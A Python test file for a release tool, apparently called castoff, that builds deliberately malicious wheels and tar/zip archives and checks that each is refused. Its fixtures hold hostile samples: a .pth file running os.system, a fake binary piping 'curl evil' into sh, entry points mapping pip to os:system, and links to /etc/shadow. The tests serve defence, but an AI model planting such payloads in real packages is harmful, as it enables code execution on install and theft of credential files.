"""Wheels and archives made as an attacker who controls a build job would make them.

Each is read by the same code assemble, audit and retag use; each must be refused with a
ContentsError that names the member or the field, never read past its limits, never crash.
"""

from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path

import pytest

from castoff.assemble import contents
from castoff.assemble.audit import audit_archive, audit_wheel
from castoff.assemble.contents import (
    ContentsError,
    Expected,
    read_archive,
    read_sidecar,
    read_wheel,
)
from tests.wheels import elf_stub, wheel_members, write_zip

TAG = "musllinux_1_2_x86_64"
WHEEL = f"demo-1.0-py3-none-{TAG}.whl"
SCRIPT = "demo-1.0.data/scripts/hello"
EXPECTED = Expected(
    project="demo", version="1.0", binaries=("hello",), format="elf", executable=True
)
FOLDER = "hello-x86_64-unknown-linux-musl"
ARCHIVE = f"{FOLDER}.tar.gz"


def _wheel(
    tmp_path: Path,
    members: dict[str, bytes] | None = None,
    *,
    name: str = WHEEL,
    modes: dict[str, int] | None = None,
    record: bool = True,
) -> Path:
    members = wheel_members(elf_stub(), tags=(TAG,)) if members is None else members
    return write_zip(
        tmp_path / name,
        members,
        modes=modes,
        record="demo-1.0.dist-info/RECORD" if record else None,
    )


def _refused(path: Path, match: str, expected: Expected | None = EXPECTED) -> None:
    with pytest.raises(ContentsError, match=match):
        read_wheel(path, expected)
    # The audit command reports the same wheel as a finding, never a crash.
    [finding] = audit_wheel(path)
    assert finding.binary == "-"


def test_an_honest_wheel_is_read_with_its_program(tmp_path: Path) -> None:
    """The baseline the hostile cases change one thing of: it passes."""
    wheel = read_wheel(_wheel(tmp_path), EXPECTED)
    [program] = wheel.programs
    assert (program.name, program.format, program.executable) == (SCRIPT, "elf", True)
    assert program.elf is not None
    assert audit_wheel(tmp_path / WHEEL) == []


@pytest.mark.parametrize(
    ("member", "match"),
    [
        ("../evil", "'../evil' has an empty, '.' or '..' part"),
        ("/etc/evil", "is an absolute path"),
        ("C:/evil", "is an absolute path"),
        ("demo-1.0.data\\scripts\\evil", "has a backslash"),
        ("demo-1.0.data/scripts/../../../evil", r"has an empty, '\.' or '\.\.' part"),
        ("demo-1.0.data/scripts//evil", "has an empty"),
        ("demo-1.0.data/scripts/ev\nil", "has a control character"),
    ],
)
def test_member_names_that_leave_the_wheel_are_refused(
    tmp_path: Path, member: str, match: str
) -> None:
    """Absolute paths, '..', backslashes, empty parts and control characters."""
    members = wheel_members(elf_stub(), tags=(TAG,))
    members[member] = b"x"
    _refused(_wheel(tmp_path, members), match)


def test_a_member_outside_dist_info_and_scripts_is_refused(tmp_path: Path) -> None:
    """A .pth file would run at every Python start; castoff's wheels hold only a program."""
    members = wheel_members(elf_stub(), tags=(TAG,))
    members["evil.pth"] = b"import os; os.system('id')\n"
    _refused(_wheel(tmp_path, members), "'evil.pth' is outside")


def test_entry_points_that_would_install_commands_are_refused(tmp_path: Path) -> None:
    """entry_points.txt would add console scripts of its own."""
    members = wheel_members(elf_stub(), tags=(TAG,))
    members["demo-1.0.dist-info/entry_points.txt"] = b"[console_scripts]\npip = os:system\n"
    _refused(_wheel(tmp_path, members), "entry_points.txt")


def test_a_second_member_of_the_same_name_is_refused(tmp_path: Path) -> None:
    """A zip can hold one name twice; which one an installer takes is anyone's guess."""
    path = _wheel(tmp_path)
    with zipfile.ZipFile(path, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr(SCRIPT, b"#!/bin/sh\necho pwned\n")
    _refused(path, "twice")


def test_names_that_differ_only_in_case_are_refused(tmp_path: Path) -> None:
    """On macOS and Windows they are one file."""
    members = wheel_members(elf_stub(), tags=(TAG,))
    members[SCRIPT.replace("hello", "HELLO")] = elf_stub()
    _refused(_wheel(tmp_path, members), "twice")


def test_a_symlink_member_is_refused(tmp_path: Path) -> None:
    """A link in a wheel could point anywhere once installed."""
    members = wheel_members(elf_stub(), tags=(TAG,))
    members["demo-1.0.data/scripts/link"] = b"/etc/shadow"
    modes = {"demo-1.0.data/scripts/link": 0o120777}
    _refused(_wheel(tmp_path, members, modes=modes), "is a symbolic link")


def test_metadata_naming_another_project_is_refused(tmp_path: Path) -> None:
    """PyPI refuses METADATA that disagrees with the file name, in the middle of a publish."""
    members = wheel_members(elf_stub(), tags=(TAG,))
    members["demo-1.0.dist-info/METADATA"] = b"Metadata-Version: 2.1\nName: other\nVersion: 1.0\n"
    _refused(_wheel(tmp_path, members), "METADATA names the project 'other'")


def test_metadata_with_another_version_is_refused(tmp_path: Path) -> None:
    """The same for the version."""
    members = wheel_members(elf_stub(), tags=(TAG,))
    members["demo-1.0.dist-info/METADATA"] = b"Metadata-Version: 2.1\nName: demo\nVersion: 2.0\n"
    _refused(_wheel(tmp_path, members), "METADATA says version 2.0")


def test_a_dist_info_of_another_name_is_refused(tmp_path: Path) -> None:
    """The dist-info folder must be the one the file name announces."""
    members = wheel_members(elf_stub(), name="other", tags=(TAG,))
    members = {k.replace("other-1.0.data", "demo-1.0.data"): v for k, v in members.items()}
    path = write_zip(tmp_path / WHEEL, members, record="other-1.0.dist-info/RECORD")
    _refused(path, "outside|has no demo-1.0.dist-info")


def test_wheel_tags_that_disagree_with_the_file_name_are_refused(tmp_path: Path) -> None:
    """WHEEL's Tag lines are what installers check; they must be the name's."""
    members = wheel_members(elf_stub(), tags=("manylinux_2_17_x86_64",))
    _refused(_wheel(tmp_path, members), "Tag lines do not match")


def test_a_record_hash_that_does_not_match_is_refused(tmp_path: Path) -> None:
    """The program was swapped after RECORD was written."""
    path = _wheel(tmp_path)
    members = wheel_members(elf_stub(), tags=(TAG,))
    with zipfile.ZipFile(path) as archive:
        record = archive.read("demo-1.0.dist-info/RECORD")
    members[SCRIPT] = elf_stub(flags=1)
    members["demo-1.0.dist-info/RECORD"] = record
    _refused(_wheel(tmp_path, members, record=False), "does not match its RECORD")


def test_a_member_missing_from_record_is_refused(tmp_path: Path) -> None:
    """Something added after RECORD was written."""
    path = _wheel(tmp_path)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("demo-1.0.dist-info/extra.txt", b"added later")
    _refused(path, "not listed in RECORD")


def test_a_wheel_without_its_program_is_refused(tmp_path: Path) -> None:
    """No binary: nothing to install."""
    members = wheel_members(elf_stub(), tags=(TAG,))
    del members[SCRIPT]
    _refused(_wheel(tmp_path, members), "the binary is missing")


def test_a_program_without_execute_bits_is_refused(tmp_path: Path) -> None:
    """Installed without its execute bit, the command cannot run."""
    path = _wheel(tmp_path, modes={SCRIPT: 0o100644})
    with pytest.raises(ContentsError, match="is not executable"):
        read_wheel(path, EXPECTED)


def test_a_shell_script_as_the_binary_is_refused(tmp_path: Path) -> None:
    """A "binary" that is a script is not what the build made."""
    members = wheel_members(b"#!/bin/sh\ncurl evil | sh\n", tags=(TAG,))
    with pytest.raises(ContentsError, match="is a script or data, not an elf program"):
        read_wheel(_wheel(tmp_path, members), EXPECTED)


def test_a_truncated_elf_binary_is_refused(tmp_path: Path) -> None:
    """It starts like ELF and breaks off: unreadable, named."""
    members = wheel_members(elf_stub()[:30], tags=(TAG,))
    with pytest.raises(ContentsError, match="is not a readable ELF file"):
        read_wheel(_wheel(tmp_path, members), EXPECTED)
    [finding] = audit_wheel(tmp_path / WHEEL)
    assert "is not a readable ELF file" in finding.problem


def test_an_extra_program_is_refused(tmp_path: Path) -> None:
    """A second script would be installed beside (or over) other commands."""
    members = wheel_members(elf_stub(), tags=(TAG,))
    members["demo-1.0.data/scripts/pip"] = elf_stub()
    with pytest.raises(ContentsError, match="scripts/pip', which is not one of the planned"):
        read_wheel(_wheel(tmp_path, members), EXPECTED)


def test_a_wheel_of_another_project_than_planned_is_refused(tmp_path: Path) -> None:
    """Honest in itself, but not this release's."""
    other = Expected(
        project="else", version="1.0", binaries=("hello",), format="elf", executable=True
    )
    with pytest.raises(ContentsError, match=r"is demo 1\.0, but the plan is else 1\.0"):
        read_wheel(_wheel(tmp_path), other)


@pytest.mark.parametrize("cut", [0, 10, 100, -30])
def test_a_truncated_wheel_is_refused(tmp_path: Path, cut: int) -> None:
    """Any cut of a wheel is not a readable wheel (and not a traceback)."""
    path = _wheel(tmp_path)
    data = path.read_bytes()
    path.write_bytes(data[:cut])
    _refused(path, "is not a readable wheel")


def test_a_member_bigger_than_any_program_is_refused_before_reading(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A 1 GiB member in a 1 MB wheel: refused by its declared size, never decompressed."""
    monkeypatch.setattr(contents, "MAX_MEMBER_BYTES", 1 << 20)
    members = wheel_members(b"\0" * (2 << 20), tags=(TAG,))
    path = _wheel(tmp_path, members)
    assert path.stat().st_size < 64 << 10
    _refused(path, "claims 2097152 bytes")


def test_a_member_that_is_longer_than_it_says_is_refused(tmp_path: Path) -> None:
    """The central directory says fewer bytes than the stream holds: never read past them."""
    members = wheel_members(elf_stub() + b"\0" * 1000, tags=(TAG,))
    path = _wheel(tmp_path, members)
    raw = bytearray(path.read_bytes())
    at = raw.find(b"PK\x01\x02")
    while raw[at + 46 : at + 46 + len(SCRIPT)] != SCRIPT.encode():
        at = raw.find(b"PK\x01\x02", at + 4)
    raw[at + 24 : at + 28] = (100).to_bytes(4, "little")  # its uncompressed size
    path.write_bytes(bytes(raw))
    _refused(path, "not a readable wheel")


def _tar(
    path: Path,
    members: list[tuple[tarfile.TarInfo, bytes | None]],
) -> Path:
    with tarfile.open(path, "w:gz", format=tarfile.GNU_FORMAT) as archive:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            archive.addfile(info, io.BytesIO(data) if data is not None else None)
    return path


def _member(name: str, kind: bytes = tarfile.REGTYPE, mode: int = 0o755) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.mode = mode
    return info


def _folder() -> tuple[tarfile.TarInfo, None]:
    return _member(f"{FOLDER}/", tarfile.DIRTYPE), None


def test_an_honest_archive_is_read(tmp_path: Path) -> None:
    """The baseline: the folder and its one program."""
    path = _tar(tmp_path / ARCHIVE, [_folder(), (_member(f"{FOLDER}/hello"), elf_stub())])
    [program] = read_archive(path, FOLDER, EXPECTED)
    assert program.name == f"{FOLDER}/hello"
    assert audit_archive(path) == []


@pytest.mark.parametrize(
    ("member", "match"),
    [
        (_member("../hello"), "'..' part"),
        (_member("/usr/bin/hello"), "absolute path"),
        (_member(f"{FOLDER}/../../hello"), "'..' part"),
        (_member(f"{FOLDER}/link", tarfile.SYMTYPE), "is a link"),
        (_member(f"{FOLDER}/hard", tarfile.LNKTYPE), "is a link"),
        (_member(f"{FOLDER}/dev", tarfile.CHRTYPE), "not a regular file"),
        (_member(f"{FOLDER}/fifo", tarfile.FIFOTYPE), "not a regular file"),
    ],
)
def test_archive_members_that_leave_their_folder_are_refused(
    tmp_path: Path, member: tarfile.TarInfo, match: str
) -> None:
    """Tar members: paths out of the folder, links, devices."""
    if member.type in (tarfile.SYMTYPE, tarfile.LNKTYPE):
        member.linkname = "/etc/shadow"
    data = None if member.type in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE) else b"x"
    if member.type == tarfile.FIFOTYPE:
        data = None
    path = _tar(
        tmp_path / ARCHIVE, [_folder(), (_member(f"{FOLDER}/hello"), elf_stub()), (member, data)]
    )
    with pytest.raises(ContentsError, match=match):
        read_archive(path, FOLDER, EXPECTED)
    [finding] = audit_archive(path)
    assert finding.binary == "-"


def test_an_archive_member_twice_is_refused(tmp_path: Path) -> None:
    """The second copy would overwrite the first on extraction."""
    hello = (_member(f"{FOLDER}/hello"), elf_stub())
    path = _tar(
        tmp_path / ARCHIVE, [_folder(), hello, (_member(f"{FOLDER}/hello"), b"#!/bin/sh\n")]
    )
    with pytest.raises(ContentsError, match="twice"):
        read_archive(path, FOLDER, EXPECTED)


def test_an_archive_without_the_program_or_with_others_is_refused(tmp_path: Path) -> None:
    """Exactly the planned binaries, nothing else."""
    empty = _tar(tmp_path / ARCHIVE, [_folder()])
    with pytest.raises(ContentsError, match="the binary is missing"):
        read_archive(empty, FOLDER, EXPECTED)
    extra = _tar(
        tmp_path / "x.tar.gz",
        [_folder(), (_member(f"{FOLDER}/hello"), elf_stub()), (_member(f"{FOLDER}/x"), b"x")],
    )
    with pytest.raises(ContentsError, match="not one of the planned binaries"):
        read_archive(extra, FOLDER, EXPECTED)
    outside = _tar(tmp_path / "y.tar.gz", [(_member("other/hello"), elf_stub())])
    with pytest.raises(ContentsError, match=f"is not inside {FOLDER}/"):
        read_archive(outside, FOLDER, EXPECTED)


def test_an_archived_program_without_execute_bits_is_refused(tmp_path: Path) -> None:
    """Unpacked, it would not run."""
    path = _tar(
        tmp_path / ARCHIVE, [_folder(), (_member(f"{FOLDER}/hello", mode=0o644), elf_stub())]
    )
    with pytest.raises(ContentsError, match="is not executable"):
        read_archive(path, FOLDER, EXPECTED)


@pytest.mark.parametrize("cut", [0, 5, 40, 200])
def test_a_truncated_archive_is_refused(tmp_path: Path, cut: int) -> None:
    """Any cut of a .tar.gz: not a readable archive."""
    path = _tar(tmp_path / ARCHIVE, [_folder(), (_member(f"{FOLDER}/hello"), elf_stub() * 50)])
    path.write_bytes(path.read_bytes()[:cut])
    with pytest.raises(ContentsError, match=r"not a readable archive|is truncated"):
        read_archive(path, FOLDER, EXPECTED)
    [finding] = audit_archive(path)
    assert finding.binary == "-"


def test_a_zip_archive_with_a_traversing_member_is_refused(tmp_path: Path) -> None:
    """Windows archives are zips: the same rules."""
    path = write_zip(tmp_path / "hello-x86_64-pc-windows-gnu.zip", {"../hello.exe": b"MZ"})
    with pytest.raises(ContentsError, match=r"'\.\.' part"):
        read_archive(path, "hello-x86_64-pc-windows-gnu")


def test_a_sidecar_must_be_exactly_the_sha256sum_line(tmp_path: Path) -> None:
    """`<sha256>  <archive>` for the archive's bytes, and nothing more."""
    sidecar = tmp_path / f"{ARCHIVE}.sha256"
    digest = "ab" * 32
    sidecar.write_text(f"{digest}  {ARCHIVE}\n")
    read_sidecar(sidecar, ARCHIVE, digest)
    for text in (
        f"{digest}  other.tar.gz\n",
        f"{'cd' * 32}  {ARCHIVE}\n",
        f"{digest}  {ARCHIVE}\nx\n",
    ):
        sidecar.write_text(text)
        with pytest.raises(ContentsError, match="is not the sha256sum line"):
            read_sidecar(sidecar, ARCHIVE, digest)


def test_a_dynamic_program_without_section_headers_is_refused(tmp_path: Path) -> None:
    """The loader reads PT_DYNAMIC; stripped of section headers, the needs would hide."""
    program = bytearray(Path("/bin/ls").read_bytes())
    assert program[4] == 2  # ELF64, little-endian: e_shoff at 0x28, e_shnum at 0x3c
    program[0x28:0x30] = bytes(8)
    program[0x3C:0x40] = bytes(4)
    members = wheel_members(bytes(program), tags=("manylinux_2_17_x86_64",))
    path = _wheel(tmp_path, members, name="demo-1.0-py3-none-manylinux_2_17_x86_64.whl")
    [finding] = audit_wheel(path)
    assert "a dynamically linked program without section headers" in finding.problem
    honest = wheel_members(Path("/bin/ls").read_bytes(), tags=("manylinux_2_17_x86_64",))
    path = _wheel(tmp_path, honest, name="demo-1.0-py3-none-manylinux_2_17_x86_64.whl")
    assert any("needs GLIBC_2." in f.problem for f in audit_wheel(path))


def test_data_hidden_after_the_end_of_a_tar_is_refused(tmp_path: Path) -> None:
    """Tarfile stops at a bad header; GNU tar skips it and unpacks what follows."""
    path = _tar(tmp_path / ARCHIVE, [_folder(), (_member(f"{FOLDER}/hello"), elf_stub())])
    import gzip  # noqa: PLC0415

    raw = gzip.decompress(path.read_bytes())
    hidden = io.BytesIO()
    with tarfile.open(fileobj=hidden, mode="w") as extra:
        info = _member(f"{FOLDER}/helper")
        info.size = 3
        extra.addfile(info, io.BytesIO(b"evil"[:3]))
    end = raw.rstrip(b"\0")
    end += b"\0" * (-len(end) % 512)
    tampered = end + b"junk".ljust(512, b"!") + hidden.getvalue()
    path.write_bytes(gzip.compress(tampered))
    with pytest.raises(ContentsError, match="holds data after its last member"):
        read_archive(path, FOLDER, EXPECTED)


def test_a_zip_member_hidden_before_the_first_listed_one_is_refused(tmp_path: Path) -> None:
    """A local entry the central directory does not list: another reader would see it."""
    path = _wheel(tmp_path)
    hidden = io.BytesIO()
    with zipfile.ZipFile(hidden, "w") as extra:
        extra.writestr("evil.pth", b"import os\n")
    raw = hidden.getvalue()
    local = raw[: raw.index(b"PK\x01\x02")]  # the local entry alone, no directory
    path.write_bytes(local + path.read_bytes())
    _refused(path, "bytes its member list does not account for")


def test_a_record_with_quoted_paths_is_retagged_consistently(tmp_path: Path) -> None:
    """RECORD is CSV: quoted paths keep their rows, and WHEEL's new hash lands in its own."""
    from castoff.assemble.retag import retag_wheel  # noqa: PLC0415

    members = wheel_members(elf_stub(), tags=(TAG,))
    record = (
        "".join(f'"{n}",sha256={_b64(d)},{len(d)}\n' for n, d in members.items())
        + '"demo-1.0.dist-info/RECORD",,\n'
    )
    members["demo-1.0.dist-info/RECORD"] = record.encode()
    path = write_zip(tmp_path / WHEEL, members)
    read_wheel(path, EXPECTED)
    out = retag_wheel(path, ["manylinux_2_17_x86_64"], tmp_path / "out")
    wheel = read_wheel(out, EXPECTED)
    assert {t.platform for t in wheel.tags} == {TAG, "manylinux_2_17_x86_64"}


def _b64(data: bytes) -> str:
    import base64  # noqa: PLC0415
    import hashlib  # noqa: PLC0415

    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


@pytest.mark.parametrize(
    ("needed", "max_glibc", "problem"),
    [
        (("libc.so",), None, None),
        (("libc.musl-x86_64.so.1",), None, None),
        (("libc.so.6",), None, "needs libc.so.6, not only musl"),
        # libc.so with glibc's symbol versions: musl's loader would map it, but not the versions.
        (
            ("libc.so",),
            ((2, 17), "memcpy"),
            "needs glibc's symbol versions (memcpy), not only musl",
        ),
    ],
)
def test_a_musllinux_tag_takes_musl_libraries_and_no_glibc_symbol_version(
    needed: tuple[str, ...], max_glibc: tuple[tuple[int, ...], str] | None, problem: str | None
) -> None:
    """The musl audit of a shared object (no loader): only musl's libc, no GLIBC_x versions."""
    from castoff.assemble.audit import audit_binary  # noqa: PLC0415
    from castoff.assemble.elf import ElfFacts  # noqa: PLC0415

    facts = ElfFacts(
        machine="EM_X86_64", elf_class=64, little_endian=True, flags=0, interpreter=None,
        needed=needed, max_glibc=max_glibc,
    )  # fmt: skip
    findings = audit_binary(facts, artifact="w.whl", binary="m.so", tags=["musllinux_1_2_x86_64"])
    assert [f.problem for f in findings] == ([problem] if problem else [])
